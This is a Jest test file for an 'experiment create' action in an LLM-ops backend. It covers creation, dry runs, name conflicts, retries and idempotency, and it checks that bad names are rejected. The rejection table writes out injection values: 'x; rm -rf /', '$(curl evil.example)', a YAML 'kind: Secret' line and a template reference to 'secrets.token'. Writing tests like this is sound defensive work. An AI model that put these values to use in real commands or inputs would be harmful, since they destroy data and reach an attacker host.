import {
  actionContext,
  checkpointStore,
  createTestDatabases,
  startLlmOps,
  uniqueName,
  type LlmOpsTestBackend,
} from '../__testUtils__/llmOpsBackend';
import { createExperimentCreateAction } from './experimentCreate';

jest.setTimeout(60_000);

const databases = createTestDatabases();

describe.each(databases.eachSupportedId())(
  'llm-ops:experiment:create against the llm-ops backend on %s',
  databaseId => {
    let llmOps: LlmOpsTestBackend;
    let action: ReturnType<typeof createExperimentCreateAction>;

    beforeAll(async () => {
      llmOps = await startLlmOps({ knex: await databases.init(databaseId) });
      action = createExperimentCreateAction(llmOps.actionOptions);
    });

    it('creates the experiment as the initiator and outputs its id and links', async () => {
      const name = uniqueName('exp');
      const { ctx, outputs, lines } = actionContext({
        name,
        description: 'a private note that must not reach the task log',
        owner: 'group:default/ml-platform',
        tags: { team: 'nlp' },
      });
      await action.handler(ctx);

      const stored = await llmOps.api.get(`/v1/experiments/${name}`);
      expect(stored).toMatchObject({
        name,
        owner: 'group:default/ml-platform',
        tags: { team: 'nlp' },
      });
      expect(outputs).toEqual({
        experimentId: stored.id,
        name,
        created: true,
        entityRef: `experiment:default/${name}`,
        catalogUrl: `/catalog/default/experiment/${name}`,
        queued: false,
      });
      expect(lines.join('\n')).not.toContain('private note');
    });

    it.each([
      ['a shell command', 'x; rm -rf /', /shell metacharacters/],
      ['a YAML document', 'a\nkind: Secret', /line break/],
      ['template syntax', 'exp-{{ secrets.token }}', /template syntax/],
      ['a command substitution', '$(curl evil.example)', /shell/],
    ])(
      'refuses %s as the name and creates nothing',
      async (_what, name, reason) => {
        const before = await llmOps.api.names('experiments');
        const { ctx } = actionContext({ name });
        await expect(action.handler(ctx)).rejects.toThrow(reason);
        await expect(action.handler(ctx)).rejects.toMatchObject({
          name: 'InputError',
        });
        expect(await llmOps.api.names('experiments')).toEqual(before);
      },
    );

    it('refuses a tag value with a line break', async () => {
      const before = await llmOps.api.names('experiments');
      const { ctx } = actionContext({
        name: uniqueName('exp'),
        tags: { note: 'ok\nkind: Secret' },
      });
      await expect(action.handler(ctx)).rejects.toThrow(
        /"tags.note".*line break/,
      );
      expect(await llmOps.api.names('experiments')).toEqual(before);
    });

    it('dry run reports what it would create and writes nothing', async () => {
      const name = uniqueName('exp');
      const before = await llmOps.api.names('experiments');
      const { ctx, outputs, lines } = actionContext(
        { name },
        { isDryRun: true },
      );
      await action.handler(ctx);
      expect(lines.join('\n')).toContain(
        `Dry run: would create experiment '${name}'`,
      );
      expect(outputs).toMatchObject({ experimentId: 'dry-run', name });
      expect(await llmOps.api.names('experiments')).toEqual(before);
    });

    it('dry run fails when the name is taken, as the real run would', async () => {
      const name = uniqueName('exp');
      await llmOps.api.post('/v1/experiments', { name });
      const { ctx } = actionContext({ name }, { isDryRun: true });
      await expect(action.handler(ctx)).rejects.toThrow(/already exists/);
    });

    it('fails with a conflict when the name is taken, and reuses it with ifExists: reuse', async () => {
      const name = uniqueName('exp');
      const existing = await llmOps.api.post('/v1/experiments', { name });
      await expect(
        action.handler(actionContext({ name }).ctx),
      ).rejects.toMatchObject({ name: 'ConflictError' });

      const { ctx, outputs } = actionContext({ name, ifExists: 'reuse' });
      await action.handler(ctx);
      expect(outputs).toMatchObject({
        experimentId: existing.id,
        created: false,
      });
    });

    it('a retried task reuses its checkpoint and does not create twice', async () => {
      const name = uniqueName('exp');
      const checkpoints = checkpointStore();
      const first = actionContext(
        { name },
        { taskId: 'task-retry', checkpoints },
      );
      await action.handler(first.ctx);
      const second = actionContext(
        { name },
        { taskId: 'task-retry', checkpoints },
      );
      await action.handler(second.ctx);

      expect(checkpoints.runs).toEqual(['llm-ops.experiment-create']);
      expect(second.outputs.experimentId).toBe(first.outputs.experimentId);
      const all = await llmOps.api.names('experiments');
      expect(all.filter(n => n === name)).toHaveLength(1);
    });

    it('a task recovered after losing its checkpoint gets the first answer through the Idempotency-Key', async () => {
      const name = uniqueName('exp');
      const taskId = `task-${name}`;
      const first = actionContext({ name }, { taskId });
      await action.handler(first.ctx);
      // A fresh checkpoint store: the crash happened before the checkpoint was saved.
      const second = actionContext({ name }, { taskId });
      await action.handler(second.ctx);
      expect(second.outputs.experimentId).toBe(first.outputs.experimentId);
      const all = await llmOps.api.names('experiments');
      expect(all.filter(n => n === name)).toHaveLength(1);
    });
  },
);
